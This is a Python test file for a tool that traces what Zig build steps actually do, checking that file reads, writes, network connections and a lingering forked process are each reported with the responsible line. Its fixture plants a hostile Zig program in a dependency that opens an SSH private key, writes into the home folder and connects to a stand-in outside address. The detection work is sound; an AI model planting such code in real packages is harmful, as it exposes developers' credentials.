"""The hidden program of the demo, in the variants that a thief would try: each is observed, and named with the line that did it."""

import json
import shutil
from pathlib import Path

import pytest

from reviewer.ecosystems.zig.observing.observe import observe_step
from reviewer.ecosystems.zig.toolchains.find import Toolchain
from reviewer.errors import ReviewerError
from reviewer.model.graph import Evidence
from reviewer.model.observation import Act, Observation, grants_for, observation_from_json, observation_to_json
from reviewer.progress import Progress
from reviewer.review.observations import keep_observation, kept_observation
from reviewer.review.open import open_review
from tests.ecosystems.zig.configured.test_four_versions import FOUR

pytestmark = pytest.mark.skipif(shutil.which("strace") is None, reason="there is no strace")

EVIL = """const std = @import("std");
const linux = std.os.linux;

pub fn main() void {
    steal();
    call();
    if (linux.fork() == 0) linger();
}

fn steal() void {
    _ = linux.open("/home/build/.ssh/id_ed25519", .{}, 0);
    _ = linux.open("/home/build/pwned", .{ .ACCMODE = .WRONLY, .CREAT = true }, 0o644);
}

fn call() void {
    const socket = linux.socket(linux.AF.INET, linux.SOCK.STREAM, 0);
    var address: linux.sockaddr.in = .{ .port = std.mem.nativeToBig(u16, 443), .addr = 0x097100cb };
    _ = linux.connect(@intCast(socket), @ptrCast(&address), @sizeOf(linux.sockaddr.in));
}

fn linger() void {
    _ = linux.setsid();
    const time: linux.timespec = .{ .sec = 0, .nsec = 300_000_000 };
    _ = linux.nanosleep(&time, null);
    _ = linux.open("/home/build/later", .{ .ACCMODE = .WRONLY, .CREAT = true }, 0o644);
}
"""


@pytest.fixture(scope="module")
def project(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """One for all versions."""
    folder = Path(shutil.copytree(FOUR, tmp_path_factory.mktemp("observed") / "four"))
    (folder / "deps" / "super" / "evil.zig").write_text(EVIL)
    return folder


def step_of(project: Path, toolchain: Toolchain, package: str) -> str:
    graph = open_review(project, Progress(), evidence=Evidence.CONFIGURED, toolchain=toolchain.zig).graph
    return next(s.id for s in graph.run_steps if graph.package[s.package].name == package and "sort" not in s.name)


def by_capability(observation: Observation) -> dict[str, list[Act]]:
    found: dict[str, list[Act]] = {}
    for act in observation.remarkable:
        found.setdefault(act.capability, []).append(act)
    return found


def test_each_act_of_a_thief_is_named_with_its_line_on_every_version(project: Path, toolchain: Toolchain) -> None:
    heard: list[Act] = []
    seen = observe_step(
        project, step_of(project, toolchain, "super"), Progress(), zig=toolchain.zig, listener=heard.append
    )
    assert seen.ended == "exit code 0"
    found = by_capability(seen)
    (key,) = found["fs.read.sensitive"]
    assert (key.kind, key.what, key.refused) == ("read", "[home]/.ssh/id_ed25519", "")
    assert key.place is not None
    assert (key.place.file, key.place.line) == ("evil.zig", 11)
    (call,) = found["net.out"]
    assert (call.what, call.refused) == ("203.0.113.9:443", "ENETUNREACH")
    assert call.place is not None
    assert call.place.line == 18
    written = {act.what: act for act in found["fs.write"]}
    assert not written["[home]/pwned"].late
    later = written["[home]/later"]
    assert later.late
    assert later.place is not None
    assert later.place.line == 25
    assert {act.what for act in heard if act.capability} >= {"[home]/.ssh/id_ed25519", "203.0.113.9:443"}


def test_a_generator_that_does_what_it_declares_is_quiet(demo: Path) -> None:
    review = open_review(demo, Progress(), evidence=Evidence.CONFIGURED)
    step = next(step for step in review.graph.run_steps if "generate" in step.name)
    assert kept_observation(review.graph, step) is None
    seen = observe_step(demo, step.id, Progress())
    assert (seen.ended, seen.remarkable, seen.unused) == ("exit code 0", (), ())
    assert {(act.kind, act.what) for act in seen.acts} >= {
        ("read", "unicode-tables:data/wide.txt"),
        ("write", "[cache]/tables.zig"),
    }
    assert grants_for(seen) == {}
    assert observation_from_json(json.dumps(observation_to_json(seen)), where="kept") == seen
    assert keep_observation(review.graph, seen) == seen
    assert kept_observation(review.graph, step) == seen


def test_grants_are_offered_for_what_was_done_and_never_for_keys() -> None:
    acts = (
        Act("read", "[project]/notes", "fs.read"),
        Act("connect", "example.org:443", "net.out", refused="ENETUNREACH"),
        Act("read", "[home]/.ssh/id", "fs.read.sensitive"),
        Act("read", "/usr/lib/x"),
    )
    seen = Observation("s", "f", "p", None, "2026-11-24T00:00:00Z", "zig", "exit code 0", 0.1, acts)
    assert grants_for(seen) == {"fs.read": ("[project]/notes",)}
    assert observation_to_json(seen)["schema"] == "reviewer.observation/1"


@pytest.mark.parametrize("damaged", ["", "{}", "[]", '{"schema": "reviewer.observation/1"}', '{"schema": "other"}'])
def test_what_is_no_observation_is_refused(damaged: str) -> None:
    with pytest.raises(ReviewerError, match="no observation"):
        observation_from_json(damaged, where="kept")


def test_what_runs_nothing_is_refused(demo: Path) -> None:
    with pytest.raises(ReviewerError, match="no such run step"):
        observe_step(demo, "root/install", Progress())
